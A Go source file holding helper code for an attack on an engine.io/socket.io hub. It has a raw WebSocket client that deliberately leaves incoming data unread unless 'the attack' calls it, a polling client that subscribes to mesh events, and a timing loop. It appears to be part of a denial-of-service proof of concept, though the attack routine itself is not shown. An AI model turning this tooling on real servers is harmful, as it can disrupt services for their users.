package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"github.com/gobwas/ws"
)

// plain is a client of the hub that sends packets. It reads nothing unless the attack calls its method answer.
type plain struct{ conn net.Conn }

// dialPlain opens a session on a WebSocket.
func dialPlain(ctx context.Context, addr string) (*plain, error) {
	conn, _, _, err := ws.Dial(ctx, "ws://"+addr+"/engine.io/?EIO=4&transport=websocket")
	if err != nil {
		return nil, err
	}
	return &plain{conn}, nil
}

func (c *plain) close() { _ = c.conn.Close() }

// write writes packets, each in a frame with a mask of zeros.
func (c *plain) write(packets ...string) error {
	var b []byte
	for _, p := range packets {
		b = append(b, 0x81, 0x80|126)
		b = binary.BigEndian.AppendUint16(b, uint16(len(p)))
		b = append(b, 0, 0, 0, 0)
		b = append(b, p...)
	}
	_, err := c.conn.Write(b)
	return err
}

// answer responds to pings, which keep the session alive, and drops all other packets.
func (c *plain) answer() {
	for {
		h, err := ws.ReadHeader(c.conn)
		if err != nil {
			return
		}
		body := make([]byte, 1)
		n := min(h.Length, 1)
		if _, err = io.ReadFull(c.conn, body[:n]); err == nil {
			_, err = io.CopyN(io.Discard, c.conn, h.Length-n)
		}
		if err == nil && h.Length == 1 && body[0] == '2' {
			err = c.write("3")
		}
		if err != nil {
			return
		}
	}
}

// closeAt closes the connection when ctx is done, so that a write ends.
func (c *plain) closeAt(ctx context.Context) { context.AfterFunc(ctx, c.close) }

// poller is a polling session.
type poller struct {
	client *http.Client
	url    string
}

// openPoller opens a polling session that subscribes to event.
func openPoller(ctx context.Context, client *http.Client, addr, event string) (*poller, error) {
	p := &poller{client, "http://" + addr + "/engine.io/?EIO=4&transport=polling"}
	open, err := p.ask(ctx, http.MethodGet, "")
	if err != nil {
		return nil, err
	}
	_, rest, _ := strings.Cut(open, `"sid":"`)
	sid, _, found := strings.Cut(rest, `"`)
	if !found {
		return nil, errors.New("the hub opened no session")
	}
	p.url += "&sid=" + sid
	_, err = p.ask(ctx, http.MethodPost, fmt.Sprintf(`4{"event":"handshake","payload":{},"eventTable":{"mesh::%s":{"remote":true}},"headers":{"auth":{}}}`, event))
	return p, err
}

// pollOn polls and responds to pings until ctx is done.
func (p *poller) pollOn(ctx context.Context) {
	for ctx.Err() == nil {
		answer, err := p.ask(ctx, http.MethodGet, "")
		if err == nil && strings.Contains("\x1e"+answer+"\x1e", "\x1e2\x1e") {
			_, err = p.ask(ctx, http.MethodPost, "3")
		}
		if err != nil {
			return
		}
	}
}

func (p *poller) ask(ctx context.Context, method, body string) (answer string, err error) {
	r, err := http.NewRequestWithContext(ctx, method, p.url, strings.NewReader(body))
	if err != nil {
		return "", err
	}
	resp, err := p.client.Do(r)
	if err != nil {
		return "", err
	}
	defer func() { _ = resp.Body.Close() }()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		return "", err
	}
	if resp.StatusCode != http.StatusOK {
		return "", fmt.Errorf("the hub answered %d: %s", resp.StatusCode, b)
	}
	return string(b), nil
}

// every calls f each interval until ctx is done or f fails.
func every(ctx context.Context, interval time.Duration, f func() error) error {
	tick := time.NewTicker(interval)
	defer tick.Stop()
	for {
		if err := f(); err != nil {
			return err
		}
		select {
		case <-tick.C:
		case <-ctx.Done():
			return nil
		}
	}
}
